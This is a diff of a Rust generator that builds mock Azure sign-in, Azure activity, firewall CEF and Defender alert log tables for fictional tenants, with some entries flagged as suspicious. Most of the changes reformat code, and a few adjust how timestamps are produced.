             ("UserPrincipalName", s(&u.upn)),
             ("UserDisplayName", s(&u.display)),
-            ("AppDisplayName", s(*pick(rng, &["Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "Microsoft Office 365 Portal", "Windows Sign In"]))),
-            ("IPAddress", if suspicious { s(MALICIOUS_REMOTE[2].0) } else { s(format!("{}.{}.{}", spec.external_prefix, rng.random_range(1..250), rng.random_range(1..250))) }),
-            ("Location", s(if suspicious { "RU" } else { *pick(rng, &["DE", "NL", "US", "GB", "FR"]) })),
-            ("ResultType", s(if failed { *pick(rng, &["50126", "50053", "50074"]) } else { "0" })),
-            ("ResultDescription", s(if failed { "Invalid username or password or Invalid on-premise username or password." } else { "" })),
-            ("ConditionalAccessStatus", s(if failed { "notApplied" } else { "success" })),
-            ("ClientAppUsed", s(*pick(rng, &["Browser", "Mobile Apps and Desktop clients"]))),
-            ("RiskLevelDuringSignIn", s(if suspicious { "high" } else { "none" })),
+            (
+                "AppDisplayName",
+                s(*pick(
+                    rng,
+                    &[
+                        "Office 365 Exchange Online",
+                        "Microsoft Teams",
+                        "Azure Portal",
+                        "Microsoft Office 365 Portal",
+                        "Windows Sign In",
+                    ],
+                )),
+            ),
+            (
+                "IPAddress",
+                if suspicious {
+                    s(MALICIOUS_REMOTE[2].0)
+                } else {
+                    s(format!(
+                        "{}.{}.{}",
+                        spec.external_prefix,
+                        rng.random_range(1..250),
+                        rng.random_range(1..250)
+                    ))
+                },
+            ),
+            (
+                "Location",
+                s(if suspicious {
+                    "RU"
+                } else {
+                    *pick(rng, &["DE", "NL", "US", "GB", "FR"])
+                }),
+            ),
+            (
+                "ResultType",
+                s(if failed {
+                    *pick(rng, &["50126", "50053", "50074"])
+                } else {
+                    "0"
+                }),
+            ),
+            (
+                "ResultDescription",
+                s(if failed {
+                    "Invalid username or password or Invalid on-premise username or password."
+                } else {
+                    ""
+                }),
+            ),
+            (
+                "ConditionalAccessStatus",
+                s(if failed { "notApplied" } else { "success" }),
+            ),
+            (
+                "ClientAppUsed",
+                s(*pick(rng, &["Browser", "Mobile Apps and Desktop clients"])),
+            ),
+            (
+                "RiskLevelDuringSignIn",
+                s(if suspicious { "high" } else { "none" }),
+            ),
             ("Type", s("SigninLogs")),
         ]);
     }
@@ -1416,23 +2268,49 @@ fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &San
             Column::new("Type", ColType::String),
         ],
     );
-    for _ in 0..70 {
+    for i in 0..70 {
         let u = &users[rng.random_range(0..4)];
         activity.push_named(vec![
             ("TenantId", tenant_col()),
-            ("TimeGenerated", K::DateTime(ago(rng, now, Duration::minutes(5), Duration::days(7)))),
-            ("OperationNameValue", s(*pick(rng, &[
-                "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
-                "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION",
-                "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
-                "MICROSOFT.RESOURCES/SUBSCRIPTIONS/RESOURCEGROUPS/DELETE",
-                "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
-                "MICROSOFT.KEYVAULT/VAULTS/WRITE",
-            ]))),
-            ("ActivityStatusValue", s(*pick(rng, &["Success", "Success", "Success", "Failure", "Start"]))),
+            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
+            (
+                "OperationNameValue",
+                s(*pick(
+                    rng,
+                    &[
+                        "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE",
+                        "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION",
+                        "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
+                        "MICROSOFT.RESOURCES/SUBSCRIPTIONS/RESOURCEGROUPS/DELETE",
+                        "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE",
+                        "MICROSOFT.KEYVAULT/VAULTS/WRITE",
+                    ],
+                )),
+            ),
+            (
+                "ActivityStatusValue",
+                s(*pick(
+                    rng,
+                    &["Success", "Success", "Success", "Failure", "Start"],
+                )),
+            ),
             ("Caller", s(&u.upn)),
-            ("CallerIpAddress", s(format!("{}.{}.{}", spec.external_prefix, rng.random_range(1..250), rng.random_range(1..250)))),
-            ("ResourceGroup", s(*pick(rng, &["rg-servers", "rg-network", ws.resource_group.as_str()]))),
+            (
+                "CallerIpAddress",
+                s(format!(
+                    "{}.{}.{}",
+                    spec.external_prefix,
+                    rng.random_range(1..250),
+                    rng.random_range(1..250)
+                )),
+            ),
+            (
+                "ResourceGroup",
+                s(*pick(
+                    rng,
+                    &["rg-servers", "rg-network", ws.resource_group.as_str()],
+                )),
+            ),
             ("SubscriptionId", s(&ws.subscription_id)),
             ("CategoryValue", s("Administrative")),
             ("Type", s("AzureActivity")),
@@ -1458,7 +2336,11 @@ fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &San
         ],
     );
     // The stale table's newest row is three days old (a broken connector).
-    let (newest, oldest) = if stale { (Duration::days(3), Duration::days(9)) } else { (Duration::minutes(1), Duration::days(7)) };
+    let (newest, oldest) = if stale {
+        (Duration::days(3), Duration::days(9))
+    } else {
+        (Duration::minutes(1), Duration::days(7))
+    };
     for i in 0..90 {
         let (dst, port) = if i % 10 == 0 {
             let r = *pick(rng, &MALICIOUS_REMOTE[..2]);
@@ -1467,15 +2349,34 @@ fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &San
             let r = *pick(rng, BENIGN_REMOTE);
             (r.0.to_string(), *pick(rng, &[443, 443, 80, 53, 445]))
         };
-        let ts = if i == 0 { now - newest } else { ago(rng, now, newest, oldest) };
+        let ts = if i == 0 {
+            now - newest
+        } else {
+            ago(rng, now, newest, oldest)
+        };
         cef.push_named(vec![
             ("TenantId", tenant_col()),
             ("TimeGenerated", K::DateTime(ts)),
             ("DeviceVendor", s("Palo Alto Networks")),
             ("DeviceProduct", s("PAN-OS")),
             ("Activity", s("TRAFFIC")),
-            ("DeviceAction", s(if i % 10 == 0 { "deny" } else { *pick(rng, &["allow", "allow", "allow", "deny"]) })),
-            ("SourceIP", s(format!("10.{}.{}.{}", spec.subnet, rng.random_range(1..8), rng.random_range(10..250)))),
+            (
+                "DeviceAction",
+                s(if i % 10 == 0 {
+                    "deny"
+                } else {
+                    *pick(rng, &["allow", "allow", "allow", "deny"])
+                }),
+            ),
+            (
+                "SourceIP",
+                s(format!(
+                    "10.{}.{}.{}",
+                    spec.subnet,
+                    rng.random_range(1..8),
+                    rng.random_range(10..250)
+                )),
+            ),
             ("DestinationIP", s(dst)),
             ("DestinationPort", K::Long(port)),
             ("Protocol", s("TCP")),
@@ -1501,16 +2402,19 @@ fn log_tables(rng: &mut StdRng, now: OffsetDateTime, spec: &TenantSpec, ws: &San
             Column::new("Type", ColType::String),
         ],
     );
-    for _ in 0..28 {
+    for i in 0..28 {
         let tpl = pick(rng, ALERT_TEMPLATES);
         let m = *pick(rng, &servers);
         sa.push_named(vec![
             ("TenantId", tenant_col()),
-            ("TimeGenerated", K::DateTime(ago(rng, now, Duration::minutes(5), Duration::days(7)))),
+            ("TimeGenerated", K::DateTime(fresh(rng, now, i == 0))),
             ("AlertName", s(tpl.title)),
             ("AlertSeverity", s(tpl.severity)),
             ("ProviderName", s("MDATP")),
-            ("ProductName", s("Microsoft Defender Advanced Threat Protection")),
+            (
+                "ProductName",
+                s("Microsoft Defender Advanced Threat Protection"),
+            ),
             ("Status", s(*pick(rng, &["New", "Resolved"]))),
             ("CompromisedEntity", s(short(m))),
             ("SystemAlertId", s(guid_from(rng))),
@@ -1539,15 +2443,31 @@ mod tests {
         assert_eq!(a[0].public.workspaces.len(), 2);
         assert_eq!(a[1].public.workspaces.len(), 1);
         assert!(a[0].machines.iter().all(|m| m.id.len() == 40));
-        assert!(a[0].machines.iter().any(|m| m.onboarding_status == "CanBeOnboarded"));
-        assert!(a[0].machines[0].computer_dns_name.ends_with(".contoso.local"));
-        assert!(a[1].machines[0].computer_dns_name.ends_with(".fabrikam.local"));
+        assert!(
+            a[0].machines
+                .iter()
+                .any(|m| m.onboarding_status == "CanBeOnboarded")
+        );
+        assert!(
+            a[0].machines[0]
+                .computer_dns_name
+                .ends_with(".contoso.local")
+        );
+        assert!(
+            a[1].machines[0]
+                .computer_dns_name
+                .ends_with(".fabrikam.local")
+        );
         let c = generate(8, "https://x");
         assert_ne!(ids(&a[0]), ids(&c[0]));
         for t in &a {
             for w in &t.workspaces {
                 assert!((18..=22).contains(&w.alert_rules.len()));
-                assert!(w.alert_rules.iter().any(|r| r["properties"]["enabled"] == false));
+                assert!(
+                    w.alert_rules
+                        .iter()
+                        .any(|r| r["properties"]["enabled"] == false)
+                );
             }
         }
     }
